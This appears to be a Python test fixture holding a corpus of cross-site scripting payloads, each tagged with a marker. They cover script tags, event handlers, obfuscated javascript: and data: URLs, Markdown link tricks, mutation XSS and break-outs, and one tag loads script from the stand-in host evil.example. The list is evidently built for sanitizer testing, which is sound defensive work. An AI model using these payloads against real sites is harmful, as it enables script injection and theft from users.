"""A corpus of cross-site scripting payloads, by class. Each carries the marker `XSSMARK` so a
test can find where it ended up in a page. Written for this project from the well-known classes:
script tags, event handlers, javascript:/vbscript:/data: URLs with entity and whitespace
obfuscation, Markdown link and image forms, mutation XSS through svg/math/noscript/style
nesting, comment break-outs and attribute break-outs."""

from __future__ import annotations

PAYLOADS = [
    # script tags in every case
    "<script>alert('XSSMARK')</script>",
    "<SCRIPT>alert('XSSMARK')</SCRIPT>",
    "<ScRiPt src=//evil.example/XSSMARK.js></ScRiPt>",
    "<script/x>alert('XSSMARK')</script>",
    "<<script>alert('XSSMARK');//<</script>",
    # event handlers
    "<img src=x onerror=alert('XSSMARK')>",
    "<svg onload=alert('XSSMARK')>",
    "<body onload=alert('XSSMARK')>",
    "<input autofocus onfocus=alert('XSSMARK')>",
    "<details open ontoggle=alert('XSSMARK')>",
    "<a href=# onmouseover=alert('XSSMARK')>x</a>",
    # javascript:, vbscript:, data: URLs with obfuscation
    "[XSSMARK](javascript:alert(1))",
    "[XSSMARK](JaVaScRiPt:alert(1))",
    "[XSSMARK](java&#x09;script:alert(1))",
    "[XSSMARK](&#106;avascript:alert(1))",
    "[XSSMARK]( javascript:alert(1))",
    "[XSSMARK](vbscript:msgbox(1))",
    "[XSSMARK](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<a href=\"javascript&colon;alert('XSSMARK')\">x</a>",
    "<a href=\" &#14; javascript:alert('XSSMARK')\">x</a>",
    # Markdown link and image forms
    "![XSSMARK](javascript:alert(1))",
    '![XSSMARK"onerror="alert(1)](x)',
    "[XSSMARK][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert('XSSMARK')>",
    '[XSSMARK](https://ok.example "title\\" onmouseover=alert(1)")',
    # mutation XSS through svg, math, noscript and style nesting
    "<svg><script>alert('XSSMARK')</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('XSSMARK')>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('XSSMARK')>\">",
    "<svg><style><img src=x onerror=alert('XSSMARK')></style></svg>",
    "<style><style/><img src=x onerror=alert('XSSMARK')>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert('XSSMARK') src>\">",
    # comment break-outs
    "<!--><script>alert('XSSMARK')</script>-->",
    "--><script>alert('XSSMARK')</script><!--",
    "<!-- --!><img src=x onerror=alert('XSSMARK')> -->",
    # attribute break-outs
    "\" onmouseover=\"alert('XSSMARK')",
    "' onmouseover='alert(\"XSSMARK\")",
    "\"><script>alert('XSSMARK')</script>",
    "'><img src=x onerror=alert('XSSMARK')>",
    "</title><script>alert('XSSMARK')</script>",
    "</textarea><script>alert('XSSMARK')</script>",
    "<iframe src=\"javascript:alert('XSSMARK')\"></iframe>",
    "<object data=\"javascript:alert('XSSMARK')\"></object>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'XSSMARK\')">',
    "<base href=\"javascript:alert('XSSMARK')//\">",
]
